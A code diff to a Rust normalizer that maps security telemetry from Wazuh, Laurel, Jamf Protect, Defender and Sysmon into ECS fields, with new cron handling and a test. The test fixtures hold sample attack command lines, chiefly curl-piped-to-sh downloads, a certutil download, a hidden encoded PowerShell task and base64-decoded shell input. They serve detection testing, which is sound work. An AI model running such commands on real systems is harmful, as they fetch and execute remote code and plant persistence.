@@ -379,6 +379,7 @@ pub fn normalize(mut obj: Map<String, Json>) -> (Map<String, Json>, Option<Strin
         edr::falco,
         edr::tetragon,
         edr::laurel,
+        edr::jamf_telemetry,
         edr::carbon_black,
         edr::microsoft_evidence,
         edr::chronicle_udm,
@@ -964,18 +965,34 @@ fn wazuh(ecs: &mut Map<String, Json>, id: &mut Option<String>) {
         && is_wazuh
         && get_path(&doc, "data.dstuser").is_some()
     {
-        // The sudo decoder (Linux and macOS): who ran what as whom, from where.
-        set_path(ecs, "process.command_line", s(&cmd));
-        if let Some(exe) = cmd.split_whitespace().next() {
-            set_path(ecs, "process.executable", s(exe));
-            set_path(ecs, "process.name", s(basename_of(exe)));
-        }
-        set_path(ecs, "process.parent.name", s("sudo"));
-        if let Some(u) = get_path(&doc, "data.srcuser") {
-            set_path(ecs, "user.name", u.clone());
-        }
-        if let Some(u) = get_path(&doc, "data.dstuser") {
-            set_path(ecs, "user.effective.name", u.clone());
+        // The sudo decoder (Linux and macOS): who ran what as whom, from where. The cron
+        // decoder shares its fields: there `dstuser` is the crontab's owner and cron runs the
+        // command through `sh -c`.
+        let cron = get_str(&doc, "decoder.parent") == Some("cron")
+            || get_str(&doc, "decoder.name").is_some_and(|n| n.starts_with("cron"))
+            || get_str(&doc, "predecoder.program_name")
+                .is_some_and(|p| p.eq_ignore_ascii_case("cron"));
+        if cron {
+            set_path(ecs, "process.command_line", s(&format!("/bin/sh -c {cmd}")));
+            set_path(ecs, "process.executable", s("/bin/sh"));
+            set_path(ecs, "process.name", s("sh"));
+            set_path(ecs, "process.parent.name", s("cron"));
+            if let Some(u) = get_path(&doc, "data.dstuser") {
+                set_path(ecs, "user.name", u.clone());
+            }
+        } else {
+            set_path(ecs, "process.command_line", s(&cmd));
+            if let Some(exe) = cmd.split_whitespace().next() {
+                set_path(ecs, "process.executable", s(exe));
+                set_path(ecs, "process.name", s(basename_of(exe)));
+            }
+            set_path(ecs, "process.parent.name", s("sudo"));
+            if let Some(u) = get_path(&doc, "data.srcuser") {
+                set_path(ecs, "user.name", u.clone());
+            }
+            if let Some(u) = get_path(&doc, "data.dstuser") {
+                set_path(ecs, "user.effective.name", u.clone());
+            }
         }
         if let Some(d) = get_path(&doc, "data.pwd") {
             set_path(ecs, "process.working_directory", d.clone());
@@ -1468,10 +1485,12 @@ pub(crate) fn windows_flat(o: &Map<String, Json>) -> Map<String, Json> {
             Some(d) => format!("{d}\\{t}"),
             None => t,
         }),
-        (_, Some(su)) if matches!(eid, 4688 | 4698 | 4702) => Some(match get("SubjectDomainName") {
-            Some(d) => format!("{d}\\{su}"),
-            None => su,
-        }),
+        (_, Some(su)) if matches!(eid, 4688 | 4698 | 4702) => {
+            Some(match get("SubjectDomainName") {
+                Some(d) => format!("{d}\\{su}"),
+                None => su,
+            })
+        }
         _ if !sysmon => get("AccountName").map(|a| match get("Domain") {
             Some(d) => format!("{d}\\{a}"),
             None => a,
@@ -2574,5 +2593,89 @@ mod tests {
         assert_eq!(n.doc["destination"]["port"], 443);
         assert_eq!(n.doc["destination"]["domain"], "cdn-check.example");
         assert_eq!(n.doc["user"]["name"], "lena");
+    }
+
+    #[test]
+    fn laurel_task_mde_api_cron_and_raw_syslog_shapes_map_to_ecs() {
+        // Laurel's auditd JSON: the arguments, the parent it saw, the names of the ids.
+        let l = from_json(json!({"ID": "1731571501.314:228841", "HOSTNAME": "app-7",
+            "SYSCALL": {"exe": "/usr/bin/dash", "comm": "sh", "pid": 22733, "ppid": 22731, "uid": 1002, "UID": "deploy", "AUID": "deploy",
+                "PPID": {"comm": "cron", "exe": "/usr/sbin/cron"}},
+            "EXECVE": {"argc": 3, "ARGV": ["sh", "-c", "echo aWQ= | base64 -d | sh"]}, "CWD": {"cwd": "/home/deploy"}}), "x").unwrap();
+        assert_eq!(l.id, "1731571501.314:228841");
+        assert_eq!(
+            l.doc["process"]["command_line"],
+            "sh -c 'echo aWQ= | base64 -d | sh'"
+        );
+        assert_eq!(l.doc["process"]["parent"]["name"], "cron");
+        assert_eq!(l.doc["user"]["name"], "deploy");
+        assert_eq!(l.doc["host"]["name"], "app-7");
+        // A scheduled task registered (4698): its action is the command judged.
+        let t = from_json(json!({"EventID": 4698, "Hostname": "WS-1", "SubjectUserName": "sv", "SubjectDomainName": "ACME",
+            "TaskName": "\\OneDrive Reporting Task",
+            "TaskContent": "<Task><Actions Context=\"Author\"><Exec><Command>C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe</Command><Arguments>-NoP -W Hidden -Enc SQBFAFgA &amp; x</Arguments></Exec></Actions></Task>"}), "x").unwrap();
+        assert_eq!(
+            t.doc["process"]["command_line"],
+            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoP -W Hidden -Enc SQBFAFgA & x"
+        );
+        assert_eq!(t.doc["process"]["name"], "powershell.exe");
+        assert_eq!(t.doc["event"]["action"], "scheduled-task-created");
+        assert_eq!(t.doc["user"]["name"], "sv");
+        // Defender for Endpoint's own API: the newest process among the evidence.
+        let m = from_json(json!({"id": "da1", "computerDnsName": "ws-7.acme.com", "title": "Suspicious certutil", "mitreTechniques": ["T1105"],
+            "evidence": [
+                {"entityType": "Process", "fileName": "wscript.exe", "filePath": "C:\\Windows\\System32", "processId": 10, "parentProcessId": 5,
+                 "processCommandLine": "wscript.exe a.js"},
+                {"entityType": "Process", "fileName": "certutil.exe", "filePath": "C:\\Windows\\System32", "processId": 11, "parentProcessId": 10,
+                 "parentProcessFileName": "wscript.exe", "parentProcessFilePath": "C:\\Windows\\System32",
+                 "processCommandLine": "certutil -urlcache -f http://x/y", "accountName": "lk", "domainName": "ACME"},
+                {"entityType": "Ip", "ipAddress": "198.51.100.44"}]}), "x").unwrap();
+        assert_eq!(m.id, "da1");
+        assert_eq!(
+            m.doc["process"]["executable"],
+            "C:\\Windows\\System32\\certutil.exe"
+        );
+        assert_eq!(
+            m.doc["process"]["parent"]["command_line"],
+            "wscript.exe a.js"
+        );
+        assert_eq!(m.doc["user"]["name"], "lk");
+        assert_eq!(m.doc["host"]["name"], "ws-7.acme.com");
+        // Wazuh's cron decoder: the crontab's owner runs the command through sh -c.
+        let c = from_json(
+            json!({"id": "1", "rule": {"id": "100331"}, "agent": {"name": "web-3"},
+            "decoder": {"name": "cron-cmd", "parent": "cron"},
+            "data": {"dstuser": "www-data", "command": "curl -fsSL https://x/y | sh"}}),
+            "x",
+        )
+        .unwrap();
+        assert_eq!(
+            c.doc["process"]["command_line"],
+            "/bin/sh -c curl -fsSL https://x/y | sh"
+        );
+        assert_eq!(c.doc["process"]["parent"]["name"], "cron");
+        assert_eq!(c.doc["user"]["name"], "www-data");
+        // A raw auditd record as Splunk returns it, and Sysmon for Linux under Sentinel's Syslog table.
+        let r = from_json(json!({"host": "api-2", "sourcetype": "linux:audit",
+            "_raw": "type=SYSCALL msg=audit(1744983305.412:884213): arch=c000003e syscall=59 success=yes ppid=1 pid=2 uid=997 comm=\"bash\" exe=\"/usr/bin/bash\"\ntype=EXECVE msg=audit(1744983305.412:884213): argc=2 a0=\"bash\" a1=\"-i\""}), "x").unwrap();
+        assert_eq!(r.doc["process"]["executable"], "/usr/bin/bash");
+        let y = from_json(json!({"Type": "Syslog", "HostName": "cms-2",
+            "SyslogMessage": "<Event><System><EventID>1</EventID><Computer>cms-2</Computer></System><EventData><Data Name=\"Image\">/usr/bin/dash</Data><Data Name=\"CommandLine\">sh -c id</Data><Data Name=\"ParentImage\">/usr/sbin/apache2</Data><Data Name=\"User\">www-data</Data></EventData></Event>"}), "x").unwrap();
+        assert_eq!(y.doc["process"]["command_line"], "sh -c id");
+        assert_eq!(y.doc["process"]["parent"]["name"], "apache2");
+        // Jamf Protect's telemetry: numbered arguments, the exec chain's parent, the subject.
+        let j = from_json(json!({"header": {"event_name": "AUE_EXECVE", "time_seconds_epoch": 1745834921},
+            "exec_args": {"args": {"2": "-c", "1": "/bin/bash", "3": "curl -fsSL https://x/i.sh | sh"}},
+            "exec_chain_child": {"parent_path": "/bin/zsh", "parent_pid": 40112}, "path": ["/bin/bash", "/bin/bash"],
+            "subject": {"process_id": 40187, "effective_user_name": "ahmed", "effective_user_id": 501},
+            "exec_env": {"env": {"PWD": "/Users/ahmed"}}, "host_info": {"host_name": "MBP-A", "host_uuid": "190545C0"}}), "x").unwrap();
+        assert_eq!(j.id, "190545C0:40187:1745834921");
+        assert_eq!(
+            j.doc["process"]["command_line"],
+            "/bin/bash -c 'curl -fsSL https://x/i.sh | sh'"
+        );
+        assert_eq!(j.doc["process"]["parent"]["name"], "zsh");
+        assert_eq!(j.doc["user"]["name"], "ahmed");
+        assert_eq!(j.doc["host"]["os"]["type"], "macos");
     }
 }
